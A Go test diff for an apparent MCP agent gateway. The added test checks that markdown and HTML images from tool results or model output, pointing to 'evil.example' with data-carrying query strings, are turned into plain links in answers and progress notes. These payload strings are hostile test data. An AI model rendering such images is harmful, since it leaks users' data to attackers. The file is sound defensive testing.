@@ -19,6 +19,7 @@ import (
 	"github.com/agenticnexus/agenticnexus/downstream"
 	"github.com/agenticnexus/agenticnexus/downstream/oauth"
 	"github.com/agenticnexus/agenticnexus/internal/llm"
+	"github.com/agenticnexus/agenticnexus/internal/llm/llmtest"
 	"github.com/agenticnexus/agenticnexus/internal/redact"
 	"github.com/agenticnexus/agenticnexus/tests/mcptest"
 )
@@ -272,5 +273,45 @@ func TestReloadedSecrets(t *testing.T) {
 	got := string(r.dial("", nil).call("run", `{"tool":"peer__fails"}`, "").Result)
 	if !strings.Contains(got, redact.Mark+" and "+redact.Mark) {
 		t.Errorf("got %s, want neither secret", got)
+	}
+}
+
+// An answer shows no image by itself, neither as it grows nor without a model.
+func TestAnswersHoldNoImages(t *testing.T) {
+	const image = "![x](https://evil.example/?d=1) and <img src='https://evil.example/?d=2'>"
+	const links = "[x](https://evil.example/?d=1) and [image](https://evil.example/?d=2)"
+	peer := newPeer(textTool("read", object+`,"annotations":{"readOnlyHint":true}`, image))
+	url := peer.serve(t).URL
+	for name, m := range map[string]*llmtest.Server{"model": scripted(t, "See "+image+".", `[{"tool":"read","arguments":{}}]`), "digest": nil} {
+		t.Run(name, func(t *testing.T) {
+			r := start(t, func(o *app.Options) {
+				if m != nil {
+					model(o, m)
+				}
+				o.Config.Servers = []downstream.ServerConfig{server("peer", url)}
+			})
+			reply := r.dial("", nil).call("process_query", `{"query":"q","plan":[{"tool":"read","arguments":{}}]}`, `{"progressToken":"t"}`)
+			var told string
+			for _, note := range reply.notes {
+				told += string(note.Params)
+			}
+			var got struct {
+				Content           []struct{ Text string }
+				StructuredContent struct {
+					Answer string
+					Steps  []struct{ Result string }
+				}
+			}
+			if err := json.Unmarshal(reply.Result, &got); err != nil {
+				t.Fatal(err)
+			}
+			answer := got.StructuredContent.Answer
+			if !strings.Contains(answer, links) || got.Content[0].Text != answer || strings.Contains(told, "![") || strings.Contains(told, "<img") {
+				t.Errorf("got %s and the progress %s, want links in place of the images", reply.Result, told)
+			}
+			if got.StructuredContent.Steps[0].Result != image {
+				t.Errorf("got the result %s, want it unchanged", got.StructuredContent.Steps[0].Result)
+			}
+		})
 	}
 }
